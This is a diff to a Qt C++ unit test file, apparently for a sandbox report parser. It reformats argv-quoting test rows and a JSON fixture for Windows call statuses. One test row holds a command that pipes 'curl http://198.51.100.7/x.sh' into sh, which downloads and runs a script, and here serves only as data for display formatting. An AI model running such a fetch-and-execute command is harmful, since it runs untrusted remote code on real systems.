@@ -17,13 +17,13 @@ private Q_SLOTS:
         QTest::addColumn<QString>("argv");
         QTest::addColumn<QString>("line");
         const auto row = [](const char* argv, const char* line) { QTest::newRow(argv) << argv << line; };
-        row(R"(["/tmp/hunt.elf"])", "/tmp/hunt.elf");
+        row("[\"/tmp/hunt.elf\"]", "/tmp/hunt.elf");
         row("[\"sh\", \"-c\", \"curl http://198.51.100.7/x.sh | sh\"]", "sh -c 'curl http://198.51.100.7/x.sh | sh'");
-        row(R"(["a", "say \"hi\"", "it's"])", R"(a 'say "hi"' 'it'\''s')");
-        row(R"(["a", ""])", "a ''");
-        row(R"(["a", "\x41\102\n"])", "a 'AB\n'");
-        row(R"(["a", "long"..., "b"])", "a long... b");
-        row(R"(["a", "cut)", "a cut");
+        row("[\"a\", \"say \\\"hi\\\"\", \"it's\"]", "a 'say \"hi\"' 'it'\\''s'");
+        row("[\"a\", \"\"]", "a ''");
+        row("[\"a\", \"\\x41\\102\\n\"]", "a 'AB\n'");
+        row("[\"a\", \"long\"..., \"b\"]", "a long... b");
+        row("[\"a\", \"cut", "a cut");
         row("0x7ffd3a2b", "");
         row("[]", "");
         row("", "");
@@ -61,10 +61,10 @@ private Q_SLOTS:
 
     void windowsSaysItselfWhetherACallSucceeded()
     {
-        const ReportPtr report = ReportParser::parse(QByteArray(R"x({"info":{},"behavior":{"processes":[{"process_id":1,
+        const ReportPtr report = ReportParser::parse(QByteArray(R"({"info":{},"behavior":{"processes":[{"process_id":1,
             "calls":[{"timestamp":"2026-01-31 10:04:12,031","return":"0xc0000034"},
             {"timestamp":"2026-01-31 10:04:12,031","return":"0xc0000034","status":false},
-            {"timestamp":"2026-01-31 10:04:12,031","return":"-1 EPERM (x)","status":true}]}]}})x"))
+            {"timestamp":"2026-01-31 10:04:12,031","return":"-1 EPERM","status":true}]}]}})"))
                                      .value();
         QCOMPARE(report->calls().status(0), std::optional<bool>());
         QCOMPARE(report->calls().status(1), std::optional(false));
